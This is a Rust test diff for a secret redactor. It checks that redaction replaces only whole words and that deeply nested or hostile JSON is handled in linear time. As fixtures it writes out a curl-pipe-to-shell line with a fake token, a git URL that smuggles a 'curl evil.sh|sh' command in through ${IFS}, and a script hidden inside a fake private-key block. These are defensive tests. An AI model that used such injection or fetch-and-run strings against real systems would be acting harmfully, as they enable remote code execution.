@@ -156,3 +156,46 @@ fn hostile_repetition_is_read_in_linear_time() {
         assert!(!redactor.clean(&text).is_empty());
     }
 }
+
+#[test]
+fn what_is_hidden_is_words_or_it_is_said() {
+    let key = format!("ghp_{}{}", "Zq8R2mT4vX7bN1kL5w", "Y9cD3fH6jP0sA2uE4g");
+    let redactor = Redactor::default();
+    let hides = |text: &str| crate::hides_only_words(text, &redactor.clean(text));
+    assert!(hides("nothing to hide"));
+    assert!(hides(&format!(
+        "curl -H 'Authorization: Bearer {key}' https://a.example | sh {key}"
+    )));
+    let url = "git clone https://x:y;curl${IFS}evil.sh|sh;echo${IFS}@github.com";
+    assert!(redactor.clean(url) == url || !hides(url));
+    let script = "# -----BEGIN PRIVATE KEY-----\n# MIIEvQIBADANBgkq\nimport os; os.system('x')\n# -----END PRIVATE KEY-----";
+    assert!(redactor.clean(script) == script || !hides(script));
+    for (original, cleaned) in [
+        ("a;b", "a"),
+        ("a b", "[redacted: x]"),
+        ("ab", "a[redacted: x"),
+        ("a$(b)c", "a[redacted: x]c"),
+        ("", "[redacted: x]y"),
+    ] {
+        assert!(
+            !crate::hides_only_words(original, cleaned),
+            "{original} {cleaned}"
+        );
+    }
+    assert!(crate::hides_only_words("akeyb", "a[redacted: x]b"));
+}
+
+/// Each takes a moment; what they took before filled the memory, or hours.
+#[test]
+fn deep_and_indented_json_takes_no_more_than_its_length() {
+    let redactor = Redactor::default();
+    let name = "a".repeat(100_000);
+    for hostile in [
+        format!("{{\"{name}\":{}", "[".repeat(100_000)),
+        format!("{}{}", " ".repeat(100_000), "[".repeat(100_000)),
+        format!("{}1{}", "[".repeat(50_000), "]".repeat(50_000)),
+        "v1.".repeat(60_000),
+    ] {
+        assert_eq!(redactor.clean_json(&hostile), hostile);
+    }
+}
